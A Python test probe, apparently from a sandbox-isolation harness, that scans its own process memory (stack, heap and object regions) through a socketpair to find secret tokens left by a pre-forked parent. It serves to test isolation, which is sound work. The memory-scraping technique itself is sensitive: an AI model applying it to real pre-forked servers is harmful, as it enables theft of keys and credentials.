"""Search our own memory, page by page, for what the parent left there before it forked us.

origin: secrets in the memory of pre-forked servers
why: a worker forked from a process with keys has the keys
control: succeeds
timeout: 10
"""

import socket


def attack(target):
    ours, other = socket.socketpair()
    # The program's own name lies on the stack, just below what the environment was when the process started.
    name = ctypes.c_void_p.in_dll(libc, "program_invocation_name").value
    top, _ = syscall(target, "brk", 0)
    anchors = [(name - (64 << 10), name + (256 << 10)), (top - (8 << 20), top)]
    anchors += [(id(thing) & ~0xFFFFF, (id(thing) & ~0xFFFFF) + (1 << 20)) for thing in (os.environ, [], "x" * 99, b"y" * 600)]
    searched = 0
    for start, end in anchors:
        for page in range(start & ~0xFFF, end, 4096):
            sent, _ = syscall(target, "write", ours.fileno(), ctypes.c_void_p(page), 4096)
            if sent <= 0:
                continue
            data = other.recv(8192)
            searched += 1
            if holds_token(target, data):
                return escaped("the secret is in inherited memory")
    return nothing(f"no secret in {searched} pages")
